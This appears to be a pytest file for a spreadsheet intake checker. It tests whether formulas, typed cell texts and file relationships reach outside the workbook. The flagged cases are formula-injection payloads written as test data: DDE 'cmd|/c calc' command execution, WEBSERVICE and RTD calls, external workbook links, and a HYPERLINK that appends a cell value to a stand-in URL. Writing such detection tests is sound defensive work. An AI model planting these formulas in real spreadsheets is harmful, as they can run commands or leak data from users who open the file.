"""What reaches out of a file, and what only looks like it."""

from __future__ import annotations

import pytest

from evaluation.intake import outside


@pytest.mark.parametrize(
    "formula",
    [
        "SUM(A1:A9)",
        "SUM('Y tế'!C6:C20)",
        "'a b'!A1+Sheet2!B3*2",
        'IF(A1="a|b!c","[x]y!z","")',
        "SUM(Table1[Số lượt])",
        "Table1[[#This Row],[a]]/Table1[b]",
        "SUM({1,2;3,4})",
        "of:=SUM({1;2|3;4})",
        "of:=[.A1]+[$Sheet2.B1]",
        'INDIRECT("A"&ROW())',
        'HYPERLINK("#Bìa!A1","về đầu")',
        "IMSUM(A1,A2)",
        "COUNTIFS(A:A,1)",
        "'Y tế'!$3:$4",
        "CALLED(A1)",
    ],
)
def test_formulas_inside_the_file(formula: str) -> None:
    assert outside.formula(formula) is None


@pytest.mark.parametrize(
    "formula",
    [
        "=cmd|'/c calc'!A0",
        "1+cmd|' /C calc'!A0",
        "'cmd'|'/c'!A0",
        "[1]Sheet1!A1",
        "[1]!Name",
        "'[b.xlsx]S 1'!A1",
        "'C:\\a\\[b.xlsx]S'!A1",
        "SUM('https://example.org/[b.xlsx]S'!A1)",
        "_xlfn.WEBSERVICE(A1)",
        "webservice (A1)",
        "_xlfn._xlws.IMAGE(A1)",
        'RTD("a","b","c")',
        'REGISTER.ID("a","b")',
        'HYPERLINK("http://example.org/"&A1)',
        "HYPERLINK(A1)",
        "INDIRECT(\"'[b.xlsx]S'!A1\")",
        'of:=DDE("a";"b";"c")',
        "of:='file:///x.ods'#$A.A1",
        "com.sun.star.sheet.addin.X.IMPORTXML(A1)",
    ],
)
def test_formulas_that_reach_out(formula: str) -> None:
    assert outside.formula(formula)


@pytest.mark.parametrize(
    "text", ["-5", "+84", "- Khó khăn: thiếu người (call 1)", "+ phối hợp | tốt!", "@SUM(A1)", "=A1", "=1+1", "a|b!c", ""]
)
def test_texts_that_call_nothing(text: str) -> None:
    assert outside.typed(text) is None


@pytest.mark.parametrize(
    "text", ["=cmd|'/c calc'!A0", " @SUM(1)*cmd|'/c'!A0", "'=cmd|'x'!A0", "-WEBSERVICE(A1)", "=HYPERLINK(A1)", "=[1]S!A1"]
)
def test_texts_that_would_call(text: str) -> None:
    assert outside.typed(text)


@pytest.mark.parametrize("target", ["https://example.org", "mailto:a", "#Bìa!A1"])
def test_links_for_people_to_follow(target: str) -> None:
    assert outside.relationship("hyperlink", target, external=True) is None


def test_parts_of_the_file_itself() -> None:
    for kind, target in (("worksheet", "/xl/worksheets/sheet1.xml"), ("comments", "../comments1.xml"), ("printerSettings", "../p/p1.bin")):
        assert outside.relationship(kind, target, external=False) is None
